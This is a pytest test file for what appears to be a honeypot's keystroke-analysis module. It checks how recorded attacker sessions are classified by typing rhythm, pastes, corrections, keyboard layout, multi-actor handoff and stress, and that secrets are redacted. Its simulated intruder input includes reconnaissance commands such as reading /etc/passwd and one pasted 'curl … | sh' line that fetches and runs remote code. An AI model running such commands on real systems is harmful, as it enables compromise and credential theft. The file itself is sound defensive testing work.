"""How keys are struck: hand-made recordings with known truth."""

from __future__ import annotations

import random
from itertools import combinations, pairwise
from statistics import median

import pytest

from decnet.behave.keys import read_keys
from decnet.behave.rhythm import Rhythm
from tests.behavekit import START, Tape, extract, session

LINES = (
    "uname -a",
    "cat /etc/passwd",
    "ls -la /tmp",
    "ps aux",
    "netstat -an",
    "find / -name x",
    "df -h",
    "id",
)


def values(tape: Tape, **more: object) -> dict[str, object]:
    """Primitive → value of a session with this recording; its commands are the lines of the tape."""
    recording = tape.done()
    lines = [line for line in read_keys(recording).lines if line.kind == "command" and line.text]
    payload = session([line.text for line in lines], **more)  # type: ignore[arg-type]
    for row, line in zip(payload["commands"], lines, strict=True):
        row["ts"] = line.ended
    payload["ended_at"] = tape.now
    found = extract(payload, recording)
    assert {o.evidence_ref for o in found.observations} <= {f"session:s1#behave-1@{int(tape.now * 1000)}"}
    return {o.primitive: o.value for o in found.observations}


def hand(gap: float, jitter: float, pause: float = 2.0, lines: tuple[str, ...] = LINES) -> Tape:
    tape = Tape()
    for text in lines:
        tape.line(text, gap, jitter, pause)
    return tape


@pytest.mark.parametrize(
    ("gap", "jitter", "cadence"),
    [(0.05, 0.0, "machine"), (0.14, 0.3, "steady"), (0.55, 0.3, "hunt_and_peck"), (0.14, 0.75, "bursty")],
)
def test_typing_speed_classes(gap: float, jitter: float, cadence: str) -> None:
    assert values(hand(gap, jitter))["motor.keystroke_cadence"] == cadence


def test_pauses_within_lines_make_bursts_and_fragments() -> None:
    tape = Tape()
    for text in LINES:
        tape.keys(text[:3], 0.12, 0.2, first=1.5).keys(text[3:] + "\r", 0.12, 0.2, first=1.8).answer()
    found = values(tape)
    assert found["motor.keystroke_cadence"] == "bursty"
    assert found["motor.command_chunking"] == "fragmented"


def test_typed_pasted_and_mixed() -> None:
    assert values(hand(0.14, 0.3))["motor.input_modality"] == "typed"
    tape = Tape()
    for text in LINES:
        tape.paste(text)
    pasted = values(tape)
    assert pasted["motor.input_modality"] == "pasted"
    assert pasted["motor.paste_burst_rate"] == "habitual"
    assert pasted["motor.keystroke_cadence"] == "machine"
    assert "motor.digraph_simhash" not in pasted
    tape = hand(0.14, 0.3).paste("curl http://192.0.2.9/a/rather/long/address | sh")
    mixed = values(tape)
    assert mixed["motor.input_modality"] == "mixed"
    assert mixed["motor.paste_burst_rate"] == "occasional"


def test_bracketed_paste_is_a_paste_however_short() -> None:
    facts = read_keys(Tape().raw(b"\x1b[200~ls\x1b[201~").raw(b"\r").answer().done())
    assert (facts.pastes, facts.pasted, facts.live) == (1, 2, 0)


def test_tabs_of_a_pasted_text_are_no_completion() -> None:
    facts = read_keys(Tape().paste("if true; then\techo one\techo two; fi").done())
    assert (facts.tabs, facts.pastes, facts.live) == (0, 1, 0)


def test_delete_and_arrow_keys_are_no_pastes() -> None:
    tape = (
        Tape()
        .keys("ls -l")
        .raw(b"\x1b[D\x1b[D\x1b[D\x1b[D\x1b[D\x1b[D")
        .raw(b"\x1b[3~\x1b[3~")
        .raw(b"\r")
        .answer()
    )
    facts = read_keys(tape.done())
    assert (facts.pastes, facts.pasted, facts.live) == (0, 0, 5)


def test_keys_that_the_network_delivers_together_are_typed() -> None:
    tape = Tape()
    for text in LINES:
        for place in range(0, len(text), 2):
            tape.raw(text[place].encode(), 0.2).raw(text[place + 1 : place + 2].encode() or b" ", 0.001)
        tape.raw(b"\r").answer()
    facts = read_keys(tape.done())
    assert facts.pasted == 0
    assert facts.rhythm.median == pytest.approx(0.2, rel=0.1)


@pytest.mark.parametrize(("wait", "label"), [(0.3, "immediate"), (2.5, "deferred")])
def test_corrections(wait: float, label: str) -> None:
    tape = Tape()
    for text in LINES[:4]:
        tape.keys(text + "x").keys("\x7f", first=wait).keys("\r").answer()
    assert values(tape)["motor.error_correction"] == label


def test_no_correction_and_working_around() -> None:
    assert values(hand(0.14, 0.3, lines=LINES * 2))["motor.error_correction"] == "absent"
    tape = Tape()
    for text in LINES[:4]:
        tape.keys("wrong").raw(b"\x15").keys(text + "\r").answer()
    assert values(tape)["motor.error_correction"] == "route_around"


def test_a_held_backspace_is_one_correction() -> None:
    facts = read_keys(Tape().keys("wrong").keys("\x7f" * 5, 0.03, first=0.4).keys("id\r").answer().done())
    assert facts.immediate == 1
    assert facts.lines[0].text == "id"


def test_completion_and_shortcuts() -> None:
    tape = Tape()
    for text in LINES:
        tape.keys(text).raw(b"\t").out(b"", 0.001).raw(b"\x01").raw(b"\x05").raw(b"\r").answer()
    found = values(tape)
    assert found["motor.shell_mastery.tab_completion"] == "habitual"
    assert found["motor.shell_mastery.shortcut_usage"] == "heavy"
    assert found["environmental.editing_mode"] == "emacs"
    plain = values(hand(0.14, 0.3))
    assert plain["motor.shell_mastery.tab_completion"] == "none"
    assert plain["motor.shell_mastery.shortcut_usage"] == "none"
    assert plain["environmental.editing_mode"] == "unknown"


def test_chunking_of_fluent_lines() -> None:
    assert values(hand(0.14, 0.3))["motor.command_chunking"] == "single_command"
    piped = tuple(f"{text} | head" for text in LINES)
    assert values(hand(0.14, 0.3, lines=piped))["motor.command_chunking"] == "fluent"


def test_a_single_line_measures_almost_nothing() -> None:
    found = values(Tape().line("id"))
    assert {p for p in found if p.startswith("motor.")} == {
        "motor.shell_mastery.pipe_chaining_depth",
        "motor.input_modality",
    }


def test_tremor_is_alternation() -> None:
    rhythm = Rhythm()
    for place in range(300):
        rhythm.add(0.1 if place % 2 else 0.25, "ab")
    assert rhythm.autocorrelation < -0.9


def distance(one: str, other: str) -> int:
    return (int(one, 16) ^ int(other, 16)).bit_count()


def typist(pace: float, seed: int) -> str:
    rng = random.Random(seed)
    rhythm = Rhythm()
    text = " ".join(rng.choice(LINES) for _ in range(30))
    for first, second in pairwise(text):
        habit = 0.2 * ((ord(first) * 31 + ord(second)) % 7 - 3) / 3
        rhythm.add(2 ** (rng.gauss(pace + habit, 0.45)), first + second)
    simhash = rhythm.simhash()
    assert simhash is not None
    assert len(simhash) == 16
    return simhash


def test_the_rhythm_hash_is_near_for_one_hand_and_far_for_another() -> None:
    """registry: the same typist stays within about 6 bits."""
    one = [typist(-2.8, seed) for seed in range(8)]
    other = [typist(-1.6, seed) for seed in range(100, 108)]
    within = [distance(a, b) for a, b in combinations(one, 2)]
    between = [distance(a, b) for a in one for b in other]
    assert median(within) <= 6
    assert median(between) > 2 * max(median(within), 3)


def test_a_second_hand_within_one_session() -> None:
    slow = hand(0.35, 0.3, lines=LINES * 2)
    for text in LINES * 2:
        slow.line(text, 0.1, 0.3, 1.0)
    assert values(slow)["operational.multi_actor_indicators"] == "handoff_detected"
    assert values(hand(0.15, 0.4, lines=LINES * 4))["operational.multi_actor_indicators"] == "solo"


def test_reading_before_going_on() -> None:
    closed, blind = Tape(), Tape()
    rng = random.Random(3)
    last = 800
    for text in LINES * 2:
        size = rng.choice((20, 400, 2000, 6000))
        closed.line(text, pause=0.5 + last / 800, said="x" * size)
        blind.line(text, pause=rng.uniform(0.8, 1.2), said="x" * rng.choice((20, 400, 2000, 6000)))
        last = size
    assert values(closed)["cognitive.feedback_loop_engagement"] == "closed_loop"
    assert values(blind)["cognitive.feedback_loop_engagement"] == "fire_and_forget"
    assert values(Tape().line("id"))["cognitive.feedback_loop_engagement"] == "unknown"


def test_affect_after_failures() -> None:
    calm, angry = Tape(), Tape()
    for _ in range(3):
        for text in LINES[:3]:
            calm.line(text, 0.3, 0.2, 4.0)
            angry.line(text, 0.2, 0.2, 1.0)
        for text in ("cat /x", "cat /y"):
            calm.line(text, 0.3, 0.2, 4.0, said="cat: /x: No such file or directory")
            angry.line(text, 0.2, 0.2, 1.0, said="cat: /x: No such file or directory")
        calm.line("ls /tmp", 0.3, 0.2, 4.0)
        angry.keys("sl /ttttp", 0.06, 0.2, first=0.3).keys("\x7f" * 9, 0.03, first=0.1).keys(
            "ls /tmp\r", 0.06, 0.2
        )
        angry.answer()
    quiet, loud = values(calm), values(angry)
    assert quiet["emotional_valence.arousal"] == "low_calm"
    assert quiet["emotional_valence.valence"] == "positive"
    assert quiet["emotional_valence.stress_response"] == "none"
    assert quiet["emotional_valence.frustration_venting"] == "none"
    assert quiet["cognitive.error_resilience.frustration_typing"] == "low"
    assert loud["emotional_valence.frustration_venting"] == "detected"
    assert loud["emotional_valence.valence"] == "negative"
    assert loud["cognitive.error_resilience.frustration_typing"] == "high"


def test_cognitive_load() -> None:
    heavy = Tape()
    for text in LINES:
        heavy.keys(text[:2], 0.2, 0.3, first=9.0).keys("x\x7f", 0.2).keys(
            text[2:] + "\r", 0.2, 0.3, first=1.6
        ).answer()
    assert values(heavy)["cognitive.cognitive_load"] == "high"
    assert values(hand(0.14, 0.3))["cognitive.cognitive_load"] == "low"
    assert "cognitive.cognitive_load" not in values(Tape().line("id").line("ls").line("w"))


def test_a_layout_shows_in_corrected_letters() -> None:
    azerty, plain = Tape(), Tape()
    for _ in range(30):
        azerty.keys("q\x7fat z\x7fw\r").answer()
        plain.keys("k\x7flt p\x7fo\r").answer()
    assert values(azerty)["environmental.keyboard_layout"] == "azerty"
    assert values(plain)["environmental.keyboard_layout"] == "qwerty"
    assert "environmental.keyboard_layout" not in values(Tape().keys("q\x7fa\r").answer())


def test_keypad_multiplexer_and_vi() -> None:
    assert (
        values(Tape().raw(b"\x1bOq").raw(b"\x1bOr").keys("1\r").answer())["environmental.numpad_usage"]
        == "detected"
    )
    assert "environmental.numpad_usage" not in values(hand(0.14, 0.3))
    tape = Tape()
    for _ in range(3):
        tape.raw(b"\x02").keys("c").raw(b"\x15").line("ls")
    assert values(tape)["environmental.terminal_multiplexer"] == "tmux"
    assert values(Tape().line("set -o vi"))["environmental.editing_mode"] == "vi"


def test_secrets_leave_no_trace_in_values() -> None:
    tape = Tape().keys("passwd\r").out(b"\r\nNew password: ").keys("s3cr3t-xyzzy\r").answer()
    for text in LINES:
        tape.line(text)
    found = extract(session(list(LINES), started=START), tape.done(), key=b"k" * 32)
    text = " ".join(map(str, [*(o.model_dump_json() for o in found.observations), found.features]))
    assert "xyzzy" not in text
    assert "/etc/passwd" not in text
